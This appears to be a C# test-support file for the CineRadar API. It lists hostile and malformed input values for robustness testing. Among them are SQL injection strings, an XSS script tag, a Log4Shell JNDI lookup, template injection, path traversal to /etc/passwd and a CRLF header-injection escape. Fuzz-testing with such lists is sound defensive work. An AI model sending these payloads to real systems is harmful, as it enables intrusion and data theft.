using System.Text;

namespace CineRadar.Api.Tests.Support;

/// <summary>What a careless or hostile caller sends, the same on every run.</summary>
public static class HostileValues
{
    public static readonly string TenKilobytes = new('x', 10 * 1024);

    /// <summary>Parameter values, sent percent-encoded: extremes of dates and numbers, injections, odd text, 10 KB.</summary>
    public static IReadOnlyList<string> Texts { get; } =
    [
        "", " ", "0", "-1", "1", "7", "30", "201", "2147483647", "2147483648", "-2147483649", "99999999999999999999999999",
        "1e308", "-1e308", "1.5", "NaN", "Infinity", "0x1F", "+5", "1 1", "١٢",
        "0001-01-01", "9999-12-31", "2019-12-31", "2020-01-01", "1970-01-01", "2100-01-01", "2026-02-30", "+2026-01-01",
        "2026-01-01T00:00:00Z", "20260101", "yesterday",
        "' OR '1'='1", "1; DROP TABLE theatres; --", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "{{7*7}}",
        "../../../../etc/passwd", "\0", "\u202Etxt.exe", "😀🎬", "\uFFFD", "null", "[]", "{}", "true", "\t\n", "chain,city",
        new string('9', 41), new string('x', 101), new string('a', 4 * 1024), TenKilobytes,
    ];

    /// <summary>Parameter values put into the URL as they are: invalid, truncated and overlong percent escapes.</summary>
    public static IReadOnlyList<string> RawEscapes { get; } =
        ["%zz", "%", "%E0%A4%A", "%C0%AF", "%00", "%FF%FE", "%%32%65", "a%2Fb", "%0D%0AX-Injected:%201", "..%2F..%2F", "%u0041"];

    /// <summary>JSON values for a body field: wrong types, extremes, injections, invalid escapes, deep nesting, 10 KB.</summary>
    public static IReadOnlyList<string> JsonValues { get; } =
    [
        "null", "true", "0", "-1", "2147483647", "2147483648", "-2147483649", "99999999999999999999999999", "1e308", "-1e308",
        "1.5", "1e-320", "-0", "\"\"", "\" \"", "\"0\"", "\"12\"", "\"0001-01-01\"", "\"9999-12-31\"", "\"2019-12-31\"",
        "\"2026-02-30\"", "\"NaN\"", "\"Infinity\"", "\"' OR '1'='1\"", "\"<script>alert(1)</script>\"", "\"${jndi:ldap://x/a}\"",
        "\"../../etc/passwd\"", "\"\\u0000\"", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\x41\"", "\"\\u12\"", "\"\\q\"", "\"😀\"",
        "[]", "{}", "[null]", "[1,2]", "[\"\"]", "{\"a\":1}", new string('[', 70) + new string(']', 70),
        $"\"{TenKilobytes}\"", $"[{string.Join(',', Enumerable.Repeat("\"999\"", 1500))}]",
    ];

    /// <summary>Whole bodies with their content type: empty, truncated, not an object, not JSON, not UTF-8.</summary>
    public static IReadOnlyList<(byte[] Body, string ContentType)> Bodies { get; } =
    [
        .. new[]
        {
            "", " ", "{", "{\"kind\": ", "{\"name\":\"abc", "[]", "null", "\"text\"", "123", "{}}", "{\"a\":1,}", "{/*c*/}",
            "{\"name\":\"a\",\"name\":\"b\"}", "\uFEFF{}", new string('{', 70), $"{{\"{TenKilobytes}\":1}}",
        }.Select(body => (Encoding.UTF8.GetBytes(body), "application/json")),
        ("kind=schedules"u8.ToArray(), "application/x-www-form-urlencoded"),
        ("{}"u8.ToArray(), "text/plain"),
        ("{}"u8.ToArray(), "application/json; charset=utf-7"),
        ([0x7B, 0x22, 0xC3, 0x28, 0x22, 0x3A, 0x31, 0x7D], "application/json"),
        ([0xFF, 0xFE, 0x7B, 0x00, 0x7D, 0x00], "application/json"),
    ];
}
